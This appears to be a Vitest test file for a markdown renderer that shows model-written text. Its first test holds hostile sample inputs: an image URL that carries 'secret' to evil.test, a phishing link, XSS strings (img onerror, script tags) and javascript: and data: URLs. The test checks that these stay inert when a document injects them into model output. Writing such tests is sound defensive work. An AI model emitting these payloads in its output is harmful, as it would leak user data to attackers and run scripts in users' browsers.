import { expect, test } from 'vitest';
import { element } from './elements.ts';
import { markdown } from './markdown.ts';

const shown = (text: string, allowed = 'https://docs.example.test') =>
  element(
    'div',
    {},
    ...markdown(text, {
      isAllowed: ({ origin }) => origin === allowed,
      reference: (n) => (n === 1 ? element('sup', {}, '1') : undefined),
    }),
  );

test('what a document makes a model write becomes neither a link, nor a picture, nor HTML', () => {
  const page = shown(
    [
      '![pixel](https://evil.test/p.png?q=secret)',
      '[click here](https://evil.test/login) <img src=x onerror=alert(1)> <script>alert(2)</script>',
      '[run](javascript:alert(3)) [data](data:text/html,hi) https://evil.test/plain',
    ].join('\n\n'),
  );
  expect(page.querySelectorAll('a, img, script, iframe')).toHaveLength(0);
  expect(page.textContent).toContain('click here (https://evil.test/login)');
  expect(page.textContent).toContain('<img src=x onerror=alert(1)>');
});

test('an address of the site itself is a link that shows where it leads', () => {
  const link = shown('See [the guide](https://docs.example.test/guide).').querySelector('a');
  expect(link?.getAttribute('rel')).toContain('noopener');
  expect(link?.textContent).toBe('the guide (docs.example.test)');
});

test('headings, lists, tables, code and references are shown, and an unknown reference is left out', () => {
  const page = shown(
    '# Title\n\n- **one** [1]\n- two [7]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx < y\n```\n\nText with `code`.',
  );
  expect(page.querySelector('h2')?.textContent).toBe('Title');
  expect([...page.querySelectorAll('li')].map(({ textContent }) => textContent)).toEqual(['one 1', 'two ']);
  expect(page.querySelectorAll('td')).toHaveLength(2);
  expect(page.querySelector('pre')?.textContent).toBe('x < y');
  expect(page.querySelectorAll('sup')).toHaveLength(1);
});
